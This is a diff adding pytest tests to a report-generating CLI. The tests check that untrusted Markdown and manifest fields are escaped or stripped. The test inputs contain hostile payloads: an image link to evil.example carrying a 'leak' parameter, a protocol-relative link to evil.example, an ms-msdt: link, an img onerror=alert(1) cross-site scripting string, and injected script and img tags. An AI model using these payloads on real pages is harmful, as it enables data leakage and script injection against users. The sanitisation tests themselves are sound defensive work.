@@ -176,3 +176,53 @@ def test_the_report_command_rebuilds_it_from_the_manifest(
     code, _, err = run_cli("report", "missing/run.json")
     assert code == 2
     assert "missing/run.json" in err
+
+
+def test_untrusted_markdown_cannot_load_or_link_anywhere_odd() -> None:
+    from runner.results.report import _markdown
+
+    page = _markdown(
+        "![t](https://evil.example/t.gif?leak=1) [a](ms-msdt:x) [b](//evil.example) "
+        "[c](https://assemblyai.com) <img src=x onerror=alert(1)>"
+    )
+    assert "<img" not in page
+    assert 'href="ms-msdt' not in page
+    assert 'href="//evil' not in page
+    assert 'href="https://assemblyai.com"' in page
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page
+
+
+def test_a_hostile_manifest_cannot_inject_html(tmp_path: Path) -> None:
+    import json as jsonlib
+
+    from runner.results.report import write_report
+
+    task = {"task": "t", "status": "failed", "error": "<b>x</b>", "line": "<img src=x>"}
+    item = {
+        "recipe": "r<script>",
+        "item": "i",
+        "source": "s",
+        "kind": "url",
+        "status": "failed",
+        "tasks": [task],
+    }
+    manifest = {"recipes": [{"name": "<script>x</script>"}], "items": [item], "summary": {}}
+    path = tmp_path / "run.json"
+    path.write_text(jsonlib.dumps(manifest))
+    page = write_report(manifest, path, tmp_path / "report.html").read_text()
+    assert page.count("<script>") == 1  # the report's own
+    assert "<img src=x>" not in page
+    assert "<b>x</b>" not in page
+
+
+def test_the_report_never_overwrites_its_manifest(
+    served: Path, fake: FakeAssemblyAI, run_cli: RunCli
+) -> None:
+    shutil.copy(WILDFIRES, served / "saved.json")
+    (served / "recipe.yaml").write_text(RECIPE)
+    run_cli("run", "recipe.yaml", "--progress", "plain", "--no-report")
+    before = (served / "out" / "run.json").read_text()
+    code, _, err = run_cli("report", "out/run.json", "--out", "out/run.json")
+    assert code == 2
+    assert "is one of the manifests" in err
+    assert (served / "out" / "run.json").read_text() == before
